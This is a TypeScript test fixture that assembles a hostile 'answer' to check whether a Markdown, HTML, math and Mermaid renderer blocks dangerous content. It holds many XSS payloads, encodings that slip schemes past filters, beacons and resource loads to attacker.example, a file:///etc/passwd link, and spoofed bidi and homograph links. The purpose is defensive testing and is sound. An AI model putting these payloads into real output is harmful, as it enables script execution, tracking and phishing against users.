/** Schemes that must never be reached (security.md rows 21 and 24), each with something to do. */
const targets = [
  "javascript:window.__ran=1",
  "data:text/html,<script>window.__ran=1</script>",
  "data:image/svg+xml,<svg onload=window.__ran=1>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "smb://attacker.example/share",
  "blob:https://attacker.example/1",
  "ms-word:ofe|u|https://attacker.example/x",
  "//attacker.example/protocol-relative",
];

/** Ways to write a scheme so that a filter overlooks it. */
const disguises: ((target: string) => string)[] = [
  (target) => target,
  (target) => target.toUpperCase(),
  (target) => target.replace(":", "&colon;"),
  (target) => target.replace(":", "&#58;"),
  (target) => `&#1;${target}`,
  (target) => `\u00a0${target}`,
  (target) => `${target.slice(0, 4)}&Tab;${target.slice(4)}`,
  (target) => `${target.slice(0, 4)}&NewLine;${target.slice(4)}`,
  (target) => encodeURI(target).replace(":", "%3A"),
];

/** Every place a model can name an address. */
const places: ((target: string, at: number) => string)[] = [
  (target) => `[link](${target})`,
  (target) => `[link](<${target}>)`,
  (target) => `![picture](${target})`,
  (target) => `<${target}>`,
  (target, at) => `[by name][r${at}]\n\n[r${at}]: ${target} "title"`,
  (target, at) => `![by name][i${at}]\n\n[i${at}]: <${target}>`,
  (target, at) => `A note[^n${at}]\n\n[^n${at}]: [in a note](${target})`,
  (target) => `| a |\n| - |\n| [cell](${target}) |`,
  (target) => `> - [deep](${target})`,
];

/** Elements and attributes that would act if any of them became one. */
const html = [
  "<script>window.__ran=1</script>",
  "<ScRiPt src=//attacker.example/x.js></sCrIpT>",
  '<img src=x onerror="window.__ran=1">',
  '<img src="https://attacker.example/beacon.png" srcset="https://attacker.example/2x.png 2x">',
  "<svg onload=window.__ran=1><image href=https://attacker.example/svg.png></svg>",
  '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
  '<iframe src="https://attacker.example/frame"></iframe>',
  "<object data=https://attacker.example/o></object><embed src=https://attacker.example/e>",
  '<link rel="stylesheet" href="https://attacker.example/s.css"><link rel="preload" as="image" href="https://attacker.example/p.png">',
  '<link rel="dns-prefetch" href="//attacker.example"><link rel="preconnect" href="https://attacker.example">',
  "<style>body{background:url(https://attacker.example/css.png)}</style>",
  '<div style="background:url(https://attacker.example/style.png)">x</div>',
  '<form action="https://attacker.example/f"><input autofocus onfocus=window.__ran=1><button>Go</button></form>',
  '<a href="javascript:window.__ran=1" onmouseover="window.__ran=1">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/meta"><base href="https://attacker.example/">',
  "<video src=https://attacker.example/v.mp4 poster=https://attacker.example/p.png autoplay></video><audio src=https://attacker.example/a.mp3 autoplay></audio>",
  "<details open ontoggle=window.__ran=1><summary>x</summary></details>",
  '<math><maction actiontype="statusline" xlink:href="javascript:window.__ran=1">x</maction></math>',
  "<template><script>window.__ran=1</script></template><noscript><img src=https://attacker.example/n></noscript>",
  "<!--<img src='--><img src=x onerror=window.__ran=1>",
  '<img/src="x"/onerror="window.__ran=1"><x/onclick=window.__ran=1>click',
  "<a name=__proto__><input name=attributes><img name=currentScript>",
];

/** Formulas, diagrams and code that try to load or run something. */
const languages = [
  "$\\href{javascript:window.__ran=1}{x}$ and $\\url{https://attacker.example/url}$",
  "$$\\includegraphics[height=1em]{https://attacker.example/tex.png}$$",
  "$$\\htmlData{x=y}{\\htmlStyle{background:url(https://attacker.example/h.png)}{x}}$$",
  "$\\def\\a{\\a\\a}\\a$ and $\\rule{100000em}{100000em}$",
  '```mermaid\nflowchart LR\n  A["<img src=https://attacker.example/m.png onerror=window.__ran=1>"] --> B\n  click A "javascript:window.__ran=1"\n```',
  '```mermaid\n%%{init: {"securityLevel":"loose","themeCSS":"*{background:url(https://attacker.example/t.png)}"}}%%\nflowchart LR\n  A@{ img: "https://attacker.example/node.png", label: "x" } --> B\n```',
  '```mermaid\nsequenceDiagram\n  participant A as <script>window.__ran=1</script>\n  link A: Go @ javascript:window.__ran=1\n  A->>A: <img src="https://attacker.example/s.png">\n```',
  "```html\n<script>window.__ran=1</script><img src=https://attacker.example/code.png onerror=window.__ran=1>\n```",
  '```"><img src=x onerror=window.__ran=1>\nx\n```',
  "`<img src=x onerror=window.__ran=1>`",
  "~~~js onload=window.__ran=1 style=background:url(https://attacker.example/i.png)\nx\n~~~",
];

/** Text that is not what it looks like (row 25) and addresses that are not what they say (rows 22 and 23). */
const disguised = [
  "Right to left: \u202Egnp.exe\u202C and \u2066isolated\u2069, tags: \u{e0041}\u{e0042}",
  "Homograph [https://аpple.com](https://аpple.com/login) and [bank.example](https://attacker.example/bank)",
  "[https://bank.example@attacker.example](https://bank.example@attacker.example/x)",
  "A source that is not there [99] and one more [^99]",
  "Plain https://attacker.example/auto and www.attacker.example and mail@attacker.example",
];

/** An answer that tries everything at once. */
export const hostile = [
  ...html,
  ...targets.flatMap((target, row) =>
    disguises.flatMap((disguise, column) => {
      const place = places[(row + column) % places.length];
      const other = places[(row * 2 + column + 4) % places.length];
      const at = row * disguises.length + column;
      return [place?.(disguise(target), at) ?? "", other?.(disguise(target), at + 1_000) ?? ""];
    }),
  ),
  ...languages,
  ...disguised,
  "The end of it.",
].join("\n\n");
